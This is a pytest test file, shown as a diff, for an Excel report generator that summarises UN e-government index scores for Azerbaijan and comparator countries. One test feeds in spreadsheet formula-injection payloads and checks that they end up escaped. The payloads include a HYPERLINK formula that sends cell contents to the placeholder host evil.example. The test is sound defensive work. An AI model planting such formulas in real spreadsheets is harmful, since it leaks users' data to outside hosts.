@@ -1,0 +1,235 @@
+"""Country report workbook: sheets, key cells, charts, tables, print settings, safety, determinism."""
+
+from __future__ import annotations
+
+import datetime as dt
+import zipfile
+
+import pytest
+from openpyxl import load_workbook
+
+from assess.errors import ReportError
+from assess.frameworks import framework_from_dict, load_framework
+from assess.report import report, save_workbook
+
+FIXED = dt.datetime(2024, 9, 1, 12, 0, 0)
+SHEETS = ["Summary", "Scores", "Trends", "Comparison", "Gaps", "Model", "Strategy assessment", "Robustness",
+          "Method & sources"]
+
+
+@pytest.fixture(scope="module")
+def aze(tmp_path_factory):
+    """The AZE report with three comparators and a strategy profile, saved and reopened."""
+    path = tmp_path_factory.mktemp("r") / "aze.xlsx"
+    save_workbook(report("AZE", compare=["SGP", "EST", "KOR"], edition=2024, assessment="azerbaijan_2003_2012",
+                         fixed_date=FIXED), path)
+    return load_workbook(path)
+
+
+def _named(wb, name):
+    sheet, ref = next(wb.defined_names[name].destinations)
+    return wb[sheet][ref.replace("$", "")].value
+
+
+def test_sheets(aze):
+    assert aze.sheetnames == SHEETS
+
+
+def test_summary_key_figures_and_named_ranges(aze):
+    assert _named(aze, "EGDI") == 0.76073
+    assert _named(aze, "EGDI_Rank") == 74
+    assert _named(aze, "EGDI_Group") == "Very high"
+    assert _named(aze, "EGDI_Class") == "V1"
+    assert _named(aze, "EGDI_Change") == pytest.approx(0.76073 - 0.69370)
+    assert _named(aze, "EGDI_RankChange") == 83 - 74
+    assert _named(aze, "Country") == "Azerbaijan (AZE)"
+    ws = aze["Summary"]
+    assert ws["A1"].value == "E-government assessment: Azerbaijan"
+    text = " ".join(str(c.value) for c in ws["A"] if c.value)
+    assert "rank 74 of 193, in the Very high group" in text
+    assert "Since 2022 its EGDI has changed by +0.0670 and its rank by +9 places." in text
+    assert "Its largest gap to the best comparator (Estonia) is in OSI" in text
+    assert "Raising OSI alone to" in text
+
+
+def test_scores_table(aze):
+    ws = aze["Scores"]
+    (tab,) = ws.tables.values()
+    assert tab.displayName == "Scores"
+    assert tab.ref == "A1:K49"  # 4 countries x 12 editions + header
+    assert tab.tableStyleInfo.showRowStripes
+    assert ws.freeze_panes == "C2"
+    heads = [c.value for c in ws[1]]
+    assert heads == ["ISO3", "Country", "Edition", "EGDI", "Rank", "Group", "Rating class", "OSI", "HCI", "TII", "EPI"]
+    rows = {(r[0], r[2]): r for r in ws.iter_rows(min_row=2, values_only=True)}
+    assert rows[("AZE", 2024)][3:5] == (0.76073, 74)
+    assert rows[("SGP", 2024)][4] == 3
+    assert ws["D2"].number_format == "0.0000"
+    rules = {r.type for rng in ws.conditional_formatting for r in rng.rules}
+    assert rules == {"colorScale", "iconSet"}
+
+
+def test_scores_table_size_matches_data(aze):
+    import assess.un as un
+
+    n = sum(int(un.published(y).loc[["AZE", "SGP", "EST", "KOR"], "assessed"].sum()) for y in un.EDITIONS)
+    assert aze["Scores"].tables["Scores"].ref == f"A1:K{n + 1}"
+
+
+def _refs(chart):
+    return [s.val.numRef.f for s in chart.series], chart.series[0].cat.numRef or chart.series[0].cat.strRef
+
+
+def test_charts_and_their_data_references(aze):
+    counts = {ws.title: len(ws._charts) for ws in aze.worksheets}
+    assert counts == {"Summary": 0, "Scores": 0, "Trends": 2, "Comparison": 1, "Gaps": 1, "Model": 0,
+                      "Strategy assessment": 1, "Robustness": 0, "Method & sources": 0}
+    egdi, rank = aze["Trends"]._charts
+    vals, cats = _refs(egdi)
+    assert vals == [f"'Trends'!${c}$5:${c}$16" for c in "BCDE"]
+    assert cats.f == "'Trends'!$A$5:$A$16"
+    assert aze["Trends"]["A16"].value == 2024 and aze["Trends"]["B16"].value == 0.76073
+    assert rank.y_axis.scaling.orientation == "maxMin"
+    (bars,) = aze["Comparison"]._charts
+    vals, cats = _refs(bars)
+    assert vals == [f"'Comparison'!${c}$4:${c}$8" for c in "BCDE"]
+    assert aze["Comparison"]["B4"].value == 0.76073
+
+
+def test_print_settings_every_sheet(aze):
+    for ws in aze.worksheets:
+        assert ws.page_setup.orientation == "landscape", ws.title
+        assert int(ws.page_setup.paperSize) == 9, ws.title  # A4
+        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
+        assert ws.page_setup.fitToHeight == 0
+        assert "&P" in ws.oddFooter.right.text and "&N" in ws.oddFooter.right.text
+    assert aze["Scores"].print_title_rows == "$1:$1"
+    assert aze["Gaps"].print_title_rows == "$4:$4"
+
+
+def test_document_properties_and_no_formulas(aze):
+    p = aze.properties
+    assert p.title == "E-government assessment: Azerbaijan" and p.creator == "egov-assess"
+    assert p.created == FIXED and p.modified == FIXED
+    for ws in aze.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", f"{ws.title}!{c.coordinate}"
+
+
+def test_gaps_and_targets(aze):
+    ws = aze["Gaps"]
+    rows = list(ws.iter_rows(min_row=5, max_row=8, values_only=True))
+    sgp = next(r for r in rows if r[0] == "Singapore (SGP)")
+    assert sgp[2] == pytest.approx(0.20839, abs=1e-5)
+    assert sum(sgp[3:7]) == pytest.approx(sgp[2])
+    texts = [r for r in ws.iter_rows(values_only=True) if r[0] == "rank 50"]
+    osi = next(r for r in texts if r[1] == "OSI")
+    assert osi[3] == pytest.approx(0.97721, abs=1e-5)  # same as assess.whatif.smallest_change
+
+
+def test_rank_targets_agree_with_whatif():
+    from assess.report import _rank_targets
+    from assess.whatif import smallest_change
+
+    mine = _rank_targets("AZE", 2024, [("r", 60)]).set_index("component")
+    ref = smallest_change("AZE", 2024, rank=60).table
+    assert mine["needed"].tolist() == pytest.approx(ref["needed"].tolist(), abs=1e-4, nan_ok=True)
+    assert mine["reachable"].tolist() == ref["reachable"].tolist()
+
+
+def test_model_strategy_robustness(aze):
+    model = aze["Model"]
+    assert model["A1"].value == "Country model: Azerbaijan: e-government today"
+    ids = [c.value for c in model["A"]]
+    assert "egov_development_center" in ids
+    strat = aze["Strategy assessment"]
+    row = next(r for r in strat.iter_rows(values_only=True) if r[1] == "Diagrams and architecture")
+    assert row[2:4] == (0, "Absent") and row[5] == 4
+    rob = {r[0]: r for r in aze["Robustness"].iter_rows(min_row=5, values_only=True) if r[0]}
+    assert rob["AZE"][2] == 74 and rob["SGP"][2] == 3
+    assert rob["AZE"][3] <= 74 <= rob["AZE"][5]
+
+
+def test_azerbaijani_labels():
+    wb = report("AZE", compare=["SGP"], lang="az", fixed_date=FIXED)
+    assert wb.sheetnames[:2] == ["Xülasə", "Ballar"]
+    text = " ".join(str(c.value) for c in wb["Xülasə"]["A"] if c.value)
+    assert "2024-cü ildə" in text and "193 ölkə arasında 74-cü yerdədir" in text
+    assert _named(wb, "EGDI_Group") == "Çox yüksək"
+
+
+def test_deterministic_with_fixed_date(tmp_path):
+    a = save_workbook(report("AZE", compare=["SGP"], fixed_date=FIXED), tmp_path / "a.xlsx")
+    b = save_workbook(report("AZE", compare=["SGP"], fixed_date=FIXED), tmp_path / "b.xlsx")
+    za, zb = zipfile.ZipFile(a), zipfile.ZipFile(b)
+    assert za.namelist() == zb.namelist()
+    for n in za.namelist():
+        assert za.read(n) == zb.read(n), n
+
+
+def test_injection_in_a_country_model_name_is_inert(tmp_path):
+    doc = load_framework("azerbaijan_today").to_dict()
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    doc["name"] = {"en": "-2+3", "az": "x"}
+    doc["nodes"][0]["name"] = {"en": evil, "az": evil}
+    doc["nodes"][1]["name"] = {"en": "@SUM(1)", "az": "@SUM(1)"}
+    doc["nodes"][2]["name"] = {"en": "\tcmd", "az": "\tcmd"}
+    model = framework_from_dict(doc)
+    path = save_workbook(report("AZE", compare=["SGP"], model=model, fixed_date=FIXED), tmp_path / "x.xlsx")
+    ws = load_workbook(path)["Model"]
+    names = [c.value for c in ws["C"][4:7]]
+    assert names == ["'" + evil, "'@SUM(1)", "'\tcmd"]
+    assert ws["A1"].value == "Country model: -2+3"  # inside a sentence: harmless, kept as is
+    for row in ws.iter_rows():
+        for c in row:
+            assert c.data_type != "f"
+    with zipfile.ZipFile(path) as z:
+        sheet_xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
+    assert b"<f>" not in sheet_xml
+
+
+def test_atomic_save_leaves_nothing_on_failure(tmp_path):
+    class Broken:
+        def save(self, path):
+            with open(path, "wb") as fh:
+                fh.write(b"partial")
+            raise RuntimeError("disk full")
+
+    target = tmp_path / "r.xlsx"
+    target.write_bytes(b"old report")
+    with pytest.raises(RuntimeError, match="disk full"):
+        save_workbook(Broken(), target)
+    assert target.read_bytes() == b"old report"
+    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]
+
+
+@pytest.mark.parametrize("kw, match", [
+    ({"country": "XXX"}, r"country: 'XXX' was not assessed in the UN E-Government Survey 2024"),
+    ({"country": "AZE", "compare": ["SGP", "ZZZ"]}, r"compare: unknown ISO3 code\(s\) \['ZZZ'\]"),
+    ({"country": "AZE", "edition": 2023}, r"edition: must be one of \[2003, .*\]\. Got 2023 instead\."),
+    ({"country": "AZE", "lang": "fr"}, r"lang: must be one of \['en', 'az'\]\. Got 'fr' instead\."),
+    ({"country": "AZE", "assessment": "no_profile"}, r"assessment: expected a saved assessment"),
+])
+def test_errors(kw, match):
+    with pytest.raises(ReportError, match=match):
+        report(**kw)
+
+
+def test_assessment_from_filled_template(tmp_path):
+    from assess.workbook import read_assessment, write_template
+
+    rub = load_framework("strategic_structure")
+    answers = {c: {"level": 3, "evidence": f"doc {i}"} for i, c in enumerate(c.id for c in rub.criteria)}
+    path = write_template(tmp_path / "filled.xlsx", answers=answers)
+    for given in (path, read_assessment(path)):
+        wb = report("AZE", compare=["SGP"], assessment=given, fixed_date=FIXED)
+        ws = wb["Strategy assessment"]
+        overall = next(r for r in ws.iter_rows(values_only=True) if r[0] == "Overall")
+        assert overall[1] == pytest.approx(0.75)
+
+
+def test_other_edition_and_country():
+    wb = report("SGP", compare=["AZE"], edition=2022, fixed_date=FIXED)
+    assert _named(wb, "EGDI_Rank") == 12
+    assert wb["Model"]["A1"].value.startswith("Country model: Singapore")
